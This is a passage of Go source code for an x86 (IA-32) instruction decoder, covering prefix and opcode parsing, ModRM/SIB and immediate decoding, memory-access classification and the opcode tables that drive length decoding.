			inst.Prefixes.AddrSize = true
		case 0xF0:
			inst.Prefixes.Lock = true
		case 0xF2:
			inst.Prefixes.RepNE = true
		case 0xF3:
			inst.Prefixes.Rep = true
		default:
			break prefixes
		}
		inst.Prefixes.Count++
		pos++
	}

	// Opcode fetch (possibly two-byte).
	opcode := code[pos]
	pos++
	e := oneByte[opcode]
	if e.enc == encEscape {
		if pos >= len(code) {
			return ErrTruncated
		}
		opcode = code[pos]
		pos++
		e = twoByte[opcode]
		inst.TwoByte = true
		// 0F 38 / 0F 3A escape further into the three-byte maps.
		if e.enc == encEscape38 || e.enc == encEscape3A {
			if pos >= len(code) {
				return ErrTruncated
			}
			table := &threeByte38
			if e.enc == encEscape3A {
				table = &threeByte3A
			}
			opcode = code[pos]
			pos++
			e = table[opcode]
			inst.ThreeByte = true
		}
	}
	inst.Opcode = opcode
	inst.Op = e.op
	inst.Flags = e.flags

	// Condition code for the cc families.
	switch {
	case !inst.TwoByte && opcode >= 0x70 && opcode <= 0x7F:
		inst.Cond = opcode & 0x0F
	case inst.TwoByte && opcode >= 0x40 && opcode <= 0x9F:
		inst.Cond = opcode & 0x0F
	}

	operandSize := 4
	if inst.Prefixes.OpSize {
		operandSize = 2
	}

	// Immediate widths derived from the encoding.
	immSize, imm2Size := 0, 0
	needModRM := false
	switch e.enc {
	case encNone:
	case encModRM:
		needModRM = true
	case encModRMIb:
		needModRM = true
		immSize = 1
	case encModRMIz:
		needModRM = true
		immSize = operandSize
	case encIb, encRel8:
		immSize = 1
	case encIz, encRelZ:
		immSize = operandSize
	case encIw:
		immSize = 2
	case encIwIb:
		immSize = 2
		imm2Size = 1
	case encFarPtr:
		immSize = operandSize + 2
	case encMoffs:
		if inst.Prefixes.AddrSize {
			immSize = 2
		} else {
			immSize = 4
		}
	case encGrp3:
		needModRM = true // immediate resolved after ModRM (TEST forms only)
	case encPrefix:
		// A prefix byte with nothing after it, or a dangling chain that
		// the prefix loop exited on; cannot happen because the loop only
		// exits on non-prefix bytes.
	}

	mem := e.mem

	if needModRM {
		if err := decodeModRM(code, &pos, limit, inst); err != nil {
			return err
		}

		// Group opcodes: ModRM.reg selects the operation.
		var g *[8]groupOp
		switch {
		case !inst.TwoByte && opcode >= 0x80 && opcode <= 0x83:
			g = &grp1
		case !inst.TwoByte && (opcode == 0xC0 || opcode == 0xC1 || (opcode >= 0xD0 && opcode <= 0xD3)):
			g = &grp2
		case !inst.TwoByte && (opcode == 0xF6 || opcode == 0xF7):
			g = &grp3
		case !inst.TwoByte && opcode == 0xFE:
			g = &grp4
		case !inst.TwoByte && opcode == 0xFF:
			g = &grp5
		case inst.TwoByte && opcode == 0xBA:
			g = &grp8
		}
		if g != nil {
			sel := g[inst.RegField]
			inst.Op = sel.op
			inst.Flags |= sel.flags
			mem = sel.mem
			if e.enc == encGrp3 && inst.RegField <= 1 {
				// TEST Eb/Ev, imm.
				if opcode == 0xF6 {
					immSize = 1
				} else {
					immSize = operandSize
				}
			}
		}

		// Register-form restrictions: BOUND, LES/LDS/LSS/LFS/LGS, LEA and
		// CMPXCHG8B require memory operands; the register form is #UD.
		if inst.Mod == 3 {
			switch inst.Op {
			case OpBOUND, OpLES, OpLDS, OpLSS, OpLFS, OpLGS, OpLEA, OpCMPXCHG8B:
				inst.Flags |= FlagUndefined
			}
		}
		// POP Ev (0x8F) requires reg field 0; other slots are #UD.
		if !inst.TwoByte && opcode == 0x8F && inst.RegField != 0 {
			inst.Flags |= FlagUndefined
		}
	}

	// Immediates.
	if immSize > 0 {
		v, err := readImm(code, &pos, limit, immSize)
		if err != nil {
			return err
		}
		inst.Imm = v
		inst.ImmSize = immSize
	}
	if imm2Size > 0 {
		v, err := readImm(code, &pos, limit, imm2Size)
		if err != nil {
			return err
		}
		inst.Imm2 = v
	}

	inst.Len = pos - offset
	if inst.Len > MaxInstLen {
		return ErrTooManyPrefixes
	}

	// Memory semantics. A ModRM with mod=3 is a register operand and has
	// no memory access regardless of the table's direction.
	if mem != memNone {
		explicitMem := inst.HasModRM && inst.Mod != 3
		implicitMem := !inst.HasModRM &&
			(e.enc == encMoffs || inst.Op == OpXLAT || inst.Flags.Has(FlagString))
		if explicitMem || implicitMem {
			inst.MemAccess = true
			inst.MemRead = mem == memRead || mem == memRW
			inst.MemWrite = mem == memWrite || mem == memRW
			if e.enc == encMoffs {
				inst.MemDispOnly = true
				inst.Disp = int32(inst.Imm)
				inst.DispSize = inst.ImmSize
				inst.Imm = 0
				inst.ImmSize = 0
			}
			if inst.Op == OpXLAT {
				inst.MemBase = EBX
			}
			if inst.Flags.Has(FlagString) {
				// String ops address through ESI and/or EDI; record ESI as
				// base for reads and EDI for writes (MOVS uses both; EDI
				// recorded as index so both registers surface).
				if inst.MemRead {
					inst.MemBase = ESI
				}
				if inst.MemWrite {
					if inst.MemBase == RegNone {
						inst.MemBase = EDI
					} else {
						inst.MemIndex = EDI
					}
				}
			}
		}
	}

	// Relative branch targets.
	if e.enc == encRel8 || e.enc == encRelZ {
		disp := inst.Imm
		if e.enc == encRelZ && operandSize == 2 {
			disp = int64(int16(disp))
		}
		inst.RelTarget = offset + inst.Len + int(disp)
		inst.HasRelTarget = true
		inst.Disp = int32(disp)
		inst.DispSize = inst.ImmSize
		inst.Imm = 0
		inst.ImmSize = 0
	}

	return nil
}

// decodeModRM consumes the ModRM byte and any SIB/displacement it implies,
// filling the instruction's addressing fields.
func decodeModRM(code []byte, pos *int, limit int, inst *Inst) error {
	if *pos >= len(code) || *pos >= limit {
		return ErrTruncated
	}
	m := code[*pos]
	*pos++
	inst.HasModRM = true
	inst.ModRM = m
	inst.Mod = m >> 6
	inst.RegField = (m >> 3) & 7
	inst.RM = m & 7

	if inst.Mod == 3 {
		return nil // register operand, no memory form
	}

	if inst.Prefixes.AddrSize {
		return decodeModRM16(code, pos, limit, inst)
	}

	dispSize := 0
	switch inst.Mod {
	case 0:
		switch inst.RM {
		case 4:
			// SIB follows.
		case 5:
			dispSize = 4
			inst.MemDispOnly = true
		default:
			inst.MemBase = Reg(inst.RM)
		}
	case 1:
		dispSize = 1
		if inst.RM != 4 {
			inst.MemBase = Reg(inst.RM)
		}
	case 2:
		dispSize = 4
		if inst.RM != 4 {
			inst.MemBase = Reg(inst.RM)
		}
	}

	if inst.RM == 4 {
		if *pos >= len(code) || *pos >= limit {
			return ErrTruncated
		}
		sib := code[*pos]
		*pos++
		inst.HasSIB = true
		inst.SIB = sib
		scale := sib >> 6
		index := (sib >> 3) & 7
		base := sib & 7
		if index != 4 { // ESP cannot be an index
			inst.MemIndex = Reg(index)
			inst.MemScale = 1 << scale
		}
		if base == 5 && inst.Mod == 0 {
			dispSize = 4
			if inst.MemIndex == RegNone {
				inst.MemDispOnly = true
			}
		} else {
			inst.MemBase = Reg(base)
		}
	}

	if dispSize > 0 {
		v, err := readImm(code, pos, limit, dispSize)
		if err != nil {
			return err
		}
		inst.Disp = int32(v)
		inst.DispSize = dispSize
	}
	return nil
}

// mod16Base and mod16Index give the 16-bit addressing register pairs in
// rm-field order: [bx+si],[bx+di],[bp+si],[bp+di],[si],[di],[bp],[bx].
var (
	mod16Base  = [8]Reg{EBX, EBX, EBP, EBP, ESI, EDI, EBP, EBX}
	mod16Index = [8]Reg{ESI, EDI, ESI, EDI, RegNone, RegNone, RegNone, RegNone}
)

// decodeModRM16 handles the 16-bit addressing forms selected by the 0x67
// prefix.
func decodeModRM16(code []byte, pos *int, limit int, inst *Inst) error {
	dispSize := 0
	switch inst.Mod {
	case 0:
		if inst.RM == 6 {
			dispSize = 2
			inst.MemDispOnly = true
		} else {
			inst.MemBase = mod16Base[inst.RM]
			inst.MemIndex = mod16Index[inst.RM]
		}
	case 1:
		dispSize = 1
		inst.MemBase = mod16Base[inst.RM]
		inst.MemIndex = mod16Index[inst.RM]
	case 2:
		dispSize = 2
		inst.MemBase = mod16Base[inst.RM]
		inst.MemIndex = mod16Index[inst.RM]
	}
	if dispSize > 0 {
		v, err := readImm(code, pos, limit, dispSize)
		if err != nil {
			return err
		}
		inst.Disp = int32(v)
		inst.DispSize = dispSize
	}
	return nil
}

// readImm reads a little-endian immediate of size bytes, sign-extended.
func readImm(code []byte, pos *int, limit, size int) (int64, error) {
	p := *pos
	if p+size > len(code) || p+size > limit {
		return 0, ErrTruncated
	}
	*pos = p + size
	// Direct loads for the common widths; far pointers (6 bytes) take the
	// generic loop.
	switch size {
	case 1:
		return int64(int8(code[p])), nil
	case 2:
		return int64(int16(uint16(code[p]) | uint16(code[p+1])<<8)), nil
	case 4:
		return int64(int32(uint32(code[p]) | uint32(code[p+1])<<8 |
			uint32(code[p+2])<<16 | uint32(code[p+3])<<24)), nil
	}
	var v uint64
	for i := 0; i < size; i++ {
		v |= uint64(code[p+i]) << (8 * uint(i))
	}
	// Sign-extend from the top bit of the immediate.
	shift := 64 - 8*uint(size)
	return int64(v<<shift) >> shift, nil
}

// DecodeAll decodes the stream linearly from offset 0, resynchronizing
// after each instruction at its end (standard linear-sweep disassembly).
// Truncated trailing bytes are dropped.
func DecodeAll(code []byte) []Inst {
	insts := make([]Inst, 0, len(code)/3)
	for pos := 0; pos < len(code); {
		inst, err := Decode(code, pos)
		if err != nil {
			break
		}
		insts = append(insts, inst)
		pos += inst.Len
	}
	return insts
}

package x86

// encoding describes how the bytes after the opcode are laid out, which is
// everything length decoding needs.
type encoding uint8

const (
	encNone     encoding = iota // no further bytes
	encModRM                    // ModRM (+SIB/disp)
	encModRMIb                  // ModRM + imm8
	encModRMIz                  // ModRM + imm16/32 (operand size)
	encIb                       // imm8
	encIz                       // imm16/32
	encIw                       // imm16
	encIwIb                     // imm16 + imm8 (ENTER)
	encRel8                     // rel8 branch displacement
	encRelZ                     // rel16/32 branch displacement
	encFarPtr                   // ptr16:16/32 (operand size + 2)
	encMoffs                    // moffs (address-size sized)
	encPrefix                   // prefix byte, restart decode
	encEscape                   // 0x0F escape to the two-byte map
	encEscape38                 // 0F 38 escape to the three-byte map
	encEscape3A                 // 0F 3A escape to the three-byte map
	encGrp3                     // F6/F7: imm present only for /0 and /1
)

// memDir describes the direction of an explicit ModRM memory access.
type memDir uint8

const (
	memNone  memDir = iota // no memory semantics even if ModRM has mem form
	memRead                // reads memory when ModRM encodes a memory operand
	memWrite               // writes memory
	memRW                  // reads and writes (read-modify-write)
)

// entry is one opcode-table row.
type entry struct {
	op    Op
	enc   encoding
	flags Flags
	mem   memDir
}

// groupTable resolves group opcodes (ModRM.reg selects the operation).
// A nil row means the slot keeps the base entry's op.
type groupOp struct {
	op    Op
	flags Flags
	mem   memDir
}

var (
	grp1 = [8]groupOp{
		{op: OpADD, mem: memRW}, {op: OpOR, mem: memRW}, {op: OpADC, mem: memRW}, {op: OpSBB, mem: memRW},
		{op: OpAND, mem: memRW}, {op: OpSUB, mem: memRW}, {op: OpXOR, mem: memRW}, {op: OpCMP, mem: memRead},
	}
	grp2 = [8]groupOp{
		{op: OpROL, mem: memRW}, {op: OpROR, mem: memRW}, {op: OpRCL, mem: memRW}, {op: OpRCR, mem: memRW},
		{op: OpSHL, mem: memRW}, {op: OpSHR, mem: memRW}, {op: OpSHL, mem: memRW}, {op: OpSAR, mem: memRW},
	}
	grp3 = [8]groupOp{
		{op: OpTEST, mem: memRead}, {op: OpTEST, mem: memRead}, {op: OpNOT, mem: memRW}, {op: OpNEG, mem: memRW},
		{op: OpMUL, mem: memRead}, {op: OpIMUL, mem: memRead}, {op: OpDIV, mem: memRead}, {op: OpIDIV, mem: memRead},
	}
	grp4 = [8]groupOp{
		{op: OpINC, mem: memRW}, {op: OpDEC, mem: memRW},
		{op: OpInvalid, flags: FlagUndefined}, {op: OpInvalid, flags: FlagUndefined},
		{op: OpInvalid, flags: FlagUndefined}, {op: OpInvalid, flags: FlagUndefined},
		{op: OpInvalid, flags: FlagUndefined}, {op: OpInvalid, flags: FlagUndefined},
	}
	grp5 = [8]groupOp{
		{op: OpINC, mem: memRW},
		{op: OpDEC, mem: memRW},
		{op: OpCALL, flags: FlagCall | FlagIndirect | FlagStack, mem: memRead},
		{op: OpCALLF, flags: FlagCall | FlagIndirect | FlagFar | FlagStack, mem: memRead},
		{op: OpJMP, flags: FlagUncondJump | FlagIndirect, mem: memRead},
		{op: OpJMPF, flags: FlagUncondJump | FlagIndirect | FlagFar, mem: memRead},
		{op: OpPUSH, flags: FlagStack, mem: memRead},
		{op: OpInvalid, flags: FlagUndefined},
	}
	// grp8 is the 0F BA bit-test-with-immediate group.
	grp8 = [8]groupOp{
		{op: OpInvalid, flags: FlagUndefined}, {op: OpInvalid, flags: FlagUndefined},
		{op: OpInvalid, flags: FlagUndefined}, {op: OpInvalid, flags: FlagUndefined},
		{op: OpBT, mem: memRead}, {op: OpBTS, mem: memRW},
		{op: OpBTR, mem: memRW}, {op: OpBTC, mem: memRW},
	}
)

// oneByte is the complete IA-32 one-byte opcode map for 32-bit mode.
var oneByte = buildOneByte()

func buildOneByte() [256]entry {
	var t [256]entry

	// The eight classic ALU rows share a layout:
	// x0 Eb,Gb  x1 Ev,Gv  x2 Gb,Eb  x3 Gv,Ev  x4 AL,Ib  x5 eAX,Iz.
	alu := func(base byte, op Op) {
		t[base+0] = entry{op: op, enc: encModRM, mem: memRW}
		t[base+1] = entry{op: op, enc: encModRM, mem: memRW}
		t[base+2] = entry{op: op, enc: encModRM, mem: memRead}
		t[base+3] = entry{op: op, enc: encModRM, mem: memRead}
		t[base+4] = entry{op: op, enc: encIb}
		t[base+5] = entry{op: op, enc: encIz}
	}
	alu(0x00, OpADD)
	alu(0x08, OpOR)
	alu(0x10, OpADC)
	alu(0x18, OpSBB)
	alu(0x20, OpAND)
	alu(0x28, OpSUB)
	alu(0x30, OpXOR)
	alu(0x38, OpCMP)
	// CMP never writes its destination.
	t[0x38].mem = memRead
	t[0x39].mem = memRead

	// Segment push/pop in the ALU rows' 6/7 columns.
	t[0x06] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	t[0x07] = entry{op: OpPOP, enc: encNone, flags: FlagStack}
	t[0x0E] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	t[0x0F] = entry{enc: encEscape}
	t[0x16] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	t[0x17] = entry{op: OpPOP, enc: encNone, flags: FlagStack}
	t[0x1E] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	t[0x1F] = entry{op: OpPOP, enc: encNone, flags: FlagStack}

	// Segment-override and BCD opcodes interleaved in rows 2 and 3.
	t[0x26] = entry{enc: encPrefix}
	t[0x27] = entry{op: OpDAA, enc: encNone}
	t[0x2E] = entry{enc: encPrefix}
	t[0x2F] = entry{op: OpDAS, enc: encNone}
	t[0x36] = entry{enc: encPrefix}
	t[0x37] = entry{op: OpAAA, enc: encNone}
	t[0x3E] = entry{enc: encPrefix}
	t[0x3F] = entry{op: OpAAS, enc: encNone}

	for b := 0x40; b <= 0x47; b++ {
		t[b] = entry{op: OpINC, enc: encNone}
	}
	for b := 0x48; b <= 0x4F; b++ {
		t[b] = entry{op: OpDEC, enc: encNone}
	}
	for b := 0x50; b <= 0x57; b++ {
		t[b] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	}
	for b := 0x58; b <= 0x5F; b++ {
		t[b] = entry{op: OpPOP, enc: encNone, flags: FlagStack}
	}

	t[0x60] = entry{op: OpPUSHA, enc: encNone, flags: FlagStack}
	t[0x61] = entry{op: OpPOPA, enc: encNone, flags: FlagStack}
	// BOUND requires a memory operand; the register form is #UD, enforced
	// in the decoder.
	t[0x62] = entry{op: OpBOUND, enc: encModRM, mem: memRead}
	t[0x63] = entry{op: OpARPL, enc: encModRM, mem: memRW}
	t[0x64] = entry{enc: encPrefix}
	t[0x65] = entry{enc: encPrefix}
	t[0x66] = entry{enc: encPrefix}
	t[0x67] = entry{enc: encPrefix}
	t[0x68] = entry{op: OpPUSH, enc: encIz, flags: FlagStack}
	t[0x69] = entry{op: OpIMUL, enc: encModRMIz, mem: memRead}
	t[0x6A] = entry{op: OpPUSH, enc: encIb, flags: FlagStack}
	t[0x6B] = entry{op: OpIMUL, enc: encModRMIb, mem: memRead}
	t[0x6C] = entry{op: OpINS, enc: encNone, flags: FlagIO | FlagString, mem: memWrite}
	t[0x6D] = entry{op: OpINS, enc: encNone, flags: FlagIO | FlagString, mem: memWrite}
	t[0x6E] = entry{op: OpOUTS, enc: encNone, flags: FlagIO | FlagString, mem: memRead}
	t[0x6F] = entry{op: OpOUTS, enc: encNone, flags: FlagIO | FlagString, mem: memRead}

	for b := 0x70; b <= 0x7F; b++ {
		t[b] = entry{op: OpJcc, enc: encRel8, flags: FlagCondBranch}
	}

	t[0x80] = entry{enc: encModRMIb} // grp1 Eb,Ib
	t[0x81] = entry{enc: encModRMIz} // grp1 Ev,Iz
	t[0x82] = entry{enc: encModRMIb} // grp1 Eb,Ib alias (32-bit mode)
	t[0x83] = entry{enc: encModRMIb} // grp1 Ev,Ib
	t[0x84] = entry{op: OpTEST, enc: encModRM, mem: memRead}
	t[0x85] = entry{op: OpTEST, enc: encModRM, mem: memRead}
	t[0x86] = entry{op: OpXCHG, enc: encModRM, mem: memRW}
	t[0x87] = entry{op: OpXCHG, enc: encModRM, mem: memRW}
	t[0x88] = entry{op: OpMOV, enc: encModRM, mem: memWrite}
	t[0x89] = entry{op: OpMOV, enc: encModRM, mem: memWrite}
	t[0x8A] = entry{op: OpMOV, enc: encModRM, mem: memRead}
	t[0x8B] = entry{op: OpMOV, enc: encModRM, mem: memRead}
	t[0x8C] = entry{op: OpMOV, enc: encModRM, mem: memWrite} // MOV Ev,Sw
	t[0x8D] = entry{op: OpLEA, enc: encModRM, mem: memNone}  // address only
	t[0x8E] = entry{op: OpMOV, enc: encModRM, mem: memRead}  // MOV Sw,Ew
	t[0x8F] = entry{op: OpPOP, enc: encModRM, flags: FlagStack, mem: memWrite}

	t[0x90] = entry{op: OpNOP, enc: encNone}
	for b := 0x91; b <= 0x97; b++ {
		t[b] = entry{op: OpXCHG, enc: encNone}
	}
	t[0x98] = entry{op: OpCWDE, enc: encNone}
	t[0x99] = entry{op: OpCDQ, enc: encNone}
	t[0x9A] = entry{op: OpCALLF, enc: encFarPtr, flags: FlagCall | FlagFar | FlagStack}
	t[0x9B] = entry{op: OpWAIT, enc: encNone}
	t[0x9C] = entry{op: OpPUSHF, enc: encNone, flags: FlagStack}
	t[0x9D] = entry{op: OpPOPF, enc: encNone, flags: FlagStack}
	t[0x9E] = entry{op: OpSAHF, enc: encNone}
	t[0x9F] = entry{op: OpLAHF, enc: encNone}

	t[0xA0] = entry{op: OpMOV, enc: encMoffs, mem: memRead}
	t[0xA1] = entry{op: OpMOV, enc: encMoffs, mem: memRead}
	t[0xA2] = entry{op: OpMOV, enc: encMoffs, mem: memWrite}
	t[0xA3] = entry{op: OpMOV, enc: encMoffs, mem: memWrite}
	t[0xA4] = entry{op: OpMOVS, enc: encNone, flags: FlagString, mem: memRW}
	t[0xA5] = entry{op: OpMOVS, enc: encNone, flags: FlagString, mem: memRW}
	t[0xA6] = entry{op: OpCMPS, enc: encNone, flags: FlagString, mem: memRead}
	t[0xA7] = entry{op: OpCMPS, enc: encNone, flags: FlagString, mem: memRead}
	t[0xA8] = entry{op: OpTEST, enc: encIb}
	t[0xA9] = entry{op: OpTEST, enc: encIz}
	t[0xAA] = entry{op: OpSTOS, enc: encNone, flags: FlagString, mem: memWrite}
	t[0xAB] = entry{op: OpSTOS, enc: encNone, flags: FlagString, mem: memWrite}
	t[0xAC] = entry{op: OpLODS, enc: encNone, flags: FlagString, mem: memRead}
	t[0xAD] = entry{op: OpLODS, enc: encNone, flags: FlagString, mem: memRead}
	t[0xAE] = entry{op: OpSCAS, enc: encNone, flags: FlagString, mem: memRead}
	t[0xAF] = entry{op: OpSCAS, enc: encNone, flags: FlagString, mem: memRead}

	for b := 0xB0; b <= 0xB7; b++ {
		t[b] = entry{op: OpMOV, enc: encIb}
	}
	for b := 0xB8; b <= 0xBF; b++ {
		t[b] = entry{op: OpMOV, enc: encIz}
	}

	t[0xC0] = entry{enc: encModRMIb} // grp2 Eb,Ib
	t[0xC1] = entry{enc: encModRMIb} // grp2 Ev,Ib
	t[0xC2] = entry{op: OpRET, enc: encIw, flags: FlagRet | FlagStack}
	t[0xC3] = entry{op: OpRET, enc: encNone, flags: FlagRet | FlagStack}
	t[0xC4] = entry{op: OpLES, enc: encModRM, mem: memRead}
	t[0xC5] = entry{op: OpLDS, enc: encModRM, mem: memRead}
	t[0xC6] = entry{op: OpMOV, enc: encModRMIb, mem: memWrite}
	t[0xC7] = entry{op: OpMOV, enc: encModRMIz, mem: memWrite}
	t[0xC8] = entry{op: OpENTER, enc: encIwIb, flags: FlagStack}
	t[0xC9] = entry{op: OpLEAVE, enc: encNone, flags: FlagStack}
	t[0xCA] = entry{op: OpRETF, enc: encIw, flags: FlagRet | FlagFar | FlagStack}
	t[0xCB] = entry{op: OpRETF, enc: encNone, flags: FlagRet | FlagFar | FlagStack}
	t[0xCC] = entry{op: OpINT3, enc: encNone, flags: FlagInt}
	t[0xCD] = entry{op: OpINT, enc: encIb, flags: FlagInt}
	t[0xCE] = entry{op: OpINTO, enc: encNone, flags: FlagInt}
	t[0xCF] = entry{op: OpIRET, enc: encNone, flags: FlagRet | FlagStack}

	t[0xD0] = entry{enc: encModRM} // grp2 Eb,1
	t[0xD1] = entry{enc: encModRM} // grp2 Ev,1
	t[0xD2] = entry{enc: encModRM} // grp2 Eb,CL
	t[0xD3] = entry{enc: encModRM} // grp2 Ev,CL
	t[0xD4] = entry{op: OpAAM, enc: encIb}
	t[0xD5] = entry{op: OpAAD, enc: encIb}
	t[0xD6] = entry{op: OpSALC, enc: encNone} // undocumented but executes
	t[0xD7] = entry{op: OpXLAT, enc: encNone, mem: memRead}
	for b := 0xD8; b <= 0xDF; b++ {
		t[b] = entry{op: OpFPU, enc: encModRM, flags: FlagFPU, mem: memRead}
	}

	t[0xE0] = entry{op: OpLOOPNE, enc: encRel8, flags: FlagCondBranch}
	t[0xE1] = entry{op: OpLOOPE, enc: encRel8, flags: FlagCondBranch}
	t[0xE2] = entry{op: OpLOOP, enc: encRel8, flags: FlagCondBranch}
	t[0xE3] = entry{op: OpJECXZ, enc: encRel8, flags: FlagCondBranch}
	t[0xE4] = entry{op: OpIN, enc: encIb, flags: FlagIO}
	t[0xE5] = entry{op: OpIN, enc: encIb, flags: FlagIO}
	t[0xE6] = entry{op: OpOUT, enc: encIb, flags: FlagIO}
	t[0xE7] = entry{op: OpOUT, enc: encIb, flags: FlagIO}
	t[0xE8] = entry{op: OpCALL, enc: encRelZ, flags: FlagCall | FlagStack}
	t[0xE9] = entry{op: OpJMP, enc: encRelZ, flags: FlagUncondJump}
	t[0xEA] = entry{op: OpJMPF, enc: encFarPtr, flags: FlagUncondJump | FlagFar}
	t[0xEB] = entry{op: OpJMP, enc: encRel8, flags: FlagUncondJump}
	t[0xEC] = entry{op: OpIN, enc: encNone, flags: FlagIO}
	t[0xED] = entry{op: OpIN, enc: encNone, flags: FlagIO}
	t[0xEE] = entry{op: OpOUT, enc: encNone, flags: FlagIO}
	t[0xEF] = entry{op: OpOUT, enc: encNone, flags: FlagIO}

	t[0xF0] = entry{enc: encPrefix}
	t[0xF1] = entry{op: OpINT1, enc: encNone, flags: FlagInt | FlagPrivileged}
	t[0xF2] = entry{enc: encPrefix}
	t[0xF3] = entry{enc: encPrefix}
	t[0xF4] = entry{op: OpHLT, enc: encNone, flags: FlagPrivileged}
	t[0xF5] = entry{op: OpCMC, enc: encNone}
	t[0xF6] = entry{enc: encGrp3} // grp3 Eb
	t[0xF7] = entry{enc: encGrp3} // grp3 Ev
	t[0xF8] = entry{op: OpCLC, enc: encNone}
	t[0xF9] = entry{op: OpSTC, enc: encNone}
	t[0xFA] = entry{op: OpCLI, enc: encNone, flags: FlagPrivileged}
	t[0xFB] = entry{op: OpSTI, enc: encNone, flags: FlagPrivileged}
	t[0xFC] = entry{op: OpCLD, enc: encNone}
	t[0xFD] = entry{op: OpSTD, enc: encNone}
	t[0xFE] = entry{enc: encModRM} // grp4
	t[0xFF] = entry{enc: encModRM} // grp5

	return t
}

// twoByte is the 0x0F-escaped opcode map. Entries not filled explicitly
// default to undefined (#UD), which is the architecturally safe default
// for reserved slots.
var twoByte = buildTwoByte()

func buildTwoByte() [256]entry {
	var t [256]entry
	for i := range t {
		t[i] = entry{op: OpInvalid, enc: encNone, flags: FlagUndefined}
	}

	t[0x00] = entry{op: OpSysGrp6, enc: encModRM, flags: FlagSystem, mem: memRead}
	t[0x01] = entry{op: OpSysGrp7, enc: encModRM, flags: FlagSystem | FlagPrivileged, mem: memRead}
	t[0x02] = entry{op: OpLAR, enc: encModRM, flags: FlagSystem, mem: memRead}
	t[0x03] = entry{op: OpLSL, enc: encModRM, flags: FlagSystem, mem: memRead}
	t[0x06] = entry{op: OpCLTS, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0x08] = entry{op: OpINVD, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0x09] = entry{op: OpWBINVD, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0x0B] = entry{op: OpUD2, enc: encNone, flags: FlagUndefined}
	t[0x0D] = entry{op: OpNOP, enc: encModRM, mem: memNone} // prefetch hints

	// 0x10-0x17: SSE moves (length-wise plain ModRM forms).
	for b := 0x10; b <= 0x17; b++ {
		t[b] = entry{op: OpSSE, enc: encModRM, mem: memRead}
	}
	// 0x18-0x1F: hint NOP space.
	for b := 0x18; b <= 0x1F; b++ {
		t[b] = entry{op: OpNOP, enc: encModRM, mem: memNone}
	}

	t[0x20] = entry{op: OpMOVCR, enc: encModRM, flags: FlagPrivileged | FlagSystem}
	t[0x21] = entry{op: OpMOVDR, enc: encModRM, flags: FlagPrivileged | FlagSystem}
	t[0x22] = entry{op: OpMOVCR, enc: encModRM, flags: FlagPrivileged | FlagSystem}
	t[0x23] = entry{op: OpMOVDR, enc: encModRM, flags: FlagPrivileged | FlagSystem}
	for b := 0x28; b <= 0x2F; b++ {
		t[b] = entry{op: OpSSE, enc: encModRM, mem: memRead}
	}

	t[0x30] = entry{op: OpWRMSR, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0x31] = entry{op: OpRDTSC, enc: encNone}
	t[0x32] = entry{op: OpRDMSR, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0x33] = entry{op: OpRDPMC, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0x34] = entry{op: OpSYSENTER, enc: encNone, flags: FlagSystem}
	t[0x35] = entry{op: OpSYSEXIT, enc: encNone, flags: FlagPrivileged | FlagSystem}

	for b := 0x40; b <= 0x4F; b++ {
		t[b] = entry{op: OpCmovcc, enc: encModRM, mem: memRead}
	}
	for b := 0x50; b <= 0x6F; b++ {
		t[b] = entry{op: OpSSE, enc: encModRM, mem: memRead}
	}
	t[0x70] = entry{op: OpSSE, enc: encModRMIb, mem: memRead} // pshufw
	t[0x71] = entry{op: OpSSE, enc: encModRMIb}               // grp12
	t[0x72] = entry{op: OpSSE, enc: encModRMIb}               // grp13
	t[0x73] = entry{op: OpSSE, enc: encModRMIb}               // grp14
	for b := 0x74; b <= 0x76; b++ {
		t[b] = entry{op: OpSSE, enc: encModRM, mem: memRead}
	}
	t[0x77] = entry{op: OpEMMS, enc: encNone}
	for b := 0x7C; b <= 0x7F; b++ {
		t[b] = entry{op: OpSSE, enc: encModRM, mem: memRead}
	}

	for b := 0x80; b <= 0x8F; b++ {
		t[b] = entry{op: OpJcc, enc: encRelZ, flags: FlagCondBranch}
	}
	for b := 0x90; b <= 0x9F; b++ {
		t[b] = entry{op: OpSetcc, enc: encModRM, mem: memWrite}
	}

	t[0xA0] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	t[0xA1] = entry{op: OpPOP, enc: encNone, flags: FlagStack}
	t[0xA2] = entry{op: OpCPUID, enc: encNone}
	t[0xA3] = entry{op: OpBT, enc: encModRM, mem: memRead}
	t[0xA4] = entry{op: OpSHLD, enc: encModRMIb, mem: memRW}
	t[0xA5] = entry{op: OpSHLD, enc: encModRM, mem: memRW}
	t[0xA8] = entry{op: OpPUSH, enc: encNone, flags: FlagStack}
	t[0xA9] = entry{op: OpPOP, enc: encNone, flags: FlagStack}
	t[0xAA] = entry{op: OpRSM, enc: encNone, flags: FlagPrivileged | FlagSystem}
	t[0xAB] = entry{op: OpBTS, enc: encModRM, mem: memRW}
	t[0xAC] = entry{op: OpSHRD, enc: encModRMIb, mem: memRW}
	t[0xAD] = entry{op: OpSHRD, enc: encModRM, mem: memRW}
	t[0xAE] = entry{op: OpSSE, enc: encModRM, mem: memRead} // grp15 fences etc.
	t[0xAF] = entry{op: OpIMUL, enc: encModRM, mem: memRead}

	t[0xB0] = entry{op: OpCMPXCHG, enc: encModRM, mem: memRW}
	t[0xB1] = entry{op: OpCMPXCHG, enc: encModRM, mem: memRW}
	t[0xB2] = entry{op: OpLSS, enc: encModRM, mem: memRead}
	t[0xB3] = entry{op: OpBTR, enc: encModRM, mem: memRW}
	t[0xB4] = entry{op: OpLFS, enc: encModRM, mem: memRead}
	t[0xB5] = entry{op: OpLGS, enc: encModRM, mem: memRead}
	t[0xB6] = entry{op: OpMOVZX, enc: encModRM, mem: memRead}
	t[0xB7] = entry{op: OpMOVZX, enc: encModRM, mem: memRead}
	t[0xBA] = entry{enc: encModRMIb} // grp8
	t[0xBB] = entry{op: OpBTC, enc: encModRM, mem: memRW}
	t[0xBC] = entry{op: OpBSF, enc: encModRM, mem: memRead}
	t[0xBD] = entry{op: OpBSR, enc: encModRM, mem: memRead}
